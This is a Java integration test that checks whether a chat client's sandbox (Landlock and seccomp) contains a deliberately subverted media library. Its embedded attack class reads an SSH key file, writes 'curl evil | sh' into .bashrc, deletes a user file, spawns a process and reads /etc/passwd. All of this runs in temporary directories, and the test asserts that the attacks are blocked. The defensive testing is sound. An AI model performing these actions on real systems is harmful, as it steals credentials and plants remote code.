package dev.parley.client.endtoend.engine;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.client.confinement.Confinement;
import dev.parley.client.control.Notice;
import dev.parley.client.endtoend.EngineDriver;
import dev.parley.client.endtoend.ParleyProcess;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A real engine whose media library has been taken over: the class around its callbacks is exchanged for one that attacks, on
 * a thread of the library itself. Where this machine's kernel has no Landlock, the engine must say so, and the attack reads.
 */
class ConfinedEngineIT {
    private static final boolean WHOLE = Confinement.Offer.find().whole();
    private static final String TAKEN_OVER = """
            package dev.parley.client.rtc.common;

            import java.nio.file.Files;
            import java.nio.file.Path;
            import java.util.concurrent.atomic.AtomicBoolean;

            public final class Callback {
                private static final AtomicBoolean DONE = new AtomicBoolean();

                public interface Body {
                    void run() throws Exception;
                }

                public static void guard(String what, Body body) {
                    if (!DONE.getAndSet(true)) {
                        Path home = Path.of(System.getenv("HOME"));
                        attack("read", () -> say(Files.readString(home.resolve(".ssh/id_test"))));
                        attack("list", () -> Files.newDirectoryStream(home).close());
                        attack("plant", () -> Files.writeString(home.resolve(".bashrc"), "curl evil | sh"));
                        attack("take", () -> Files.delete(home.resolve("letter.txt")));
                        attack("run", () -> new ProcessBuilder("touch", home + "/was-here").start().waitFor());
                        attack("nothing", () -> Files.readString(Path.of("/etc/passwd")));
                        say("over");
                    }
                    try {
                        body.run();
                    } catch (Throwable e) {
                        say("broke " + what + ": " + e);
                    }
                }

                private static void attack(String name, Body deed) {
                    try {
                        deed.run();
                        say(name + " succeeded");
                    } catch (Throwable e) {
                        say(name + " failed");
                    }
                }

                private static void say(String text) {
                    System.err.println("ATTACK: " + text);
                }
            }
            """;

    @TempDir
    Path home;

    @TempDir
    Path patch;

    @Test
    void opensNothingOfThePersonWhenTheLibraryIsTakenOver() throws Exception {
        Files.writeString(Files.createDirectory(home.resolve(".ssh")).resolve("id_test"), "a private key");
        Path letter = Files.writeString(home.resolve("letter.txt"), "Dear Bob");
        takeOver();
        Map<String, String> environment = Map.of(
                "HOME",
                home.toString(),
                "JAVA_HOME",
                System.getProperty("java.home"),
                "PARLEY_LOG",
                "info",
                "JDK_JAVA_OPTIONS",
                "--patch-module=dev.parley.client=" + patch,
                // A folder that the library's threads may read: the exchanged class must load there.
                "PULSE_RUNTIME_PATH",
                patch.toString());
        try (EngineDriver engine = EngineDriver.start(environment, "test", "test")) {
            ParleyProcess process = engine.process();
            process.awaitError("only files of their own: " + WHOLE);
            process.awaitError("ATTACK: over");
            assertThat(process.errors()).contains("ATTACK: nothing succeeded", "ATTACK: run failed");
            assertThat(home.resolve("was-here")).doesNotExist();
            if (WHOLE) {
                assertThat(process.errors())
                        .contains(
                                "ATTACK: read failed",
                                "ATTACK: list failed",
                                "ATTACK: plant failed",
                                "ATTACK: take failed")
                        .doesNotContain("ATTACK: a private key");
                assertThat(home.resolve(".bashrc")).doesNotExist();
                assertThat(letter).hasContent("Dear Bob");
            } else {
                assertThat(process.errors()).contains("ATTACK: a private key");
            }
            // It goes on: what is taken from it is nothing that a call needs.
            engine.await(Notice.Device.class, Notice.Device::working);
        }
    }

    @Test
    void givesUpPrivilegesOnAllThreadsAndProgramsOnTheLibrarys() throws IOException {
        try (EngineDriver engine = EngineDriver.start("test")) {
            Path process = Path.of("/proc", String.valueOf(engine.process().pid()), "task");
            List<Path> threads;
            try (Stream<Path> each = Files.list(process)) {
                threads = each.toList();
            }
            int librarys = 0;
            for (Path thread : threads) {
                String name = Files.readString(thread.resolve("comm")).strip();
                boolean confined = name.matches("webrtc.*|AudioDevice.*|rtc-low.*|rtc-control");
                assertThat(Files.readString(thread.resolve("status")))
                        .as(name)
                        .contains("NoNewPrivs:\t1", "Seccomp:\t2", "Seccomp_filters:\t" + (confined ? 2 : 1));
                librarys += confined ? 1 : 0;
            }
            assertThat(librarys).as("threads of the library among %s", threads).isGreaterThan(3);
        }
    }

    /** Compiles the exchanged class by the JDK that runs this test. */
    private void takeOver() throws IOException, InterruptedException {
        Path source = Files.writeString(patch.resolve("Callback.java"), TAKEN_OVER);
        Process compiler = new ProcessBuilder(
                        System.getProperty("java.home") + "/bin/javac",
                        "-proc:none",
                        "-d",
                        patch.toString(),
                        source.toString())
                .redirectErrorStream(true)
                .start();
        String said = new String(compiler.getInputStream().readAllBytes(), UTF_8);
        assertThat(compiler.waitFor()).as(said).isZero();
    }
}
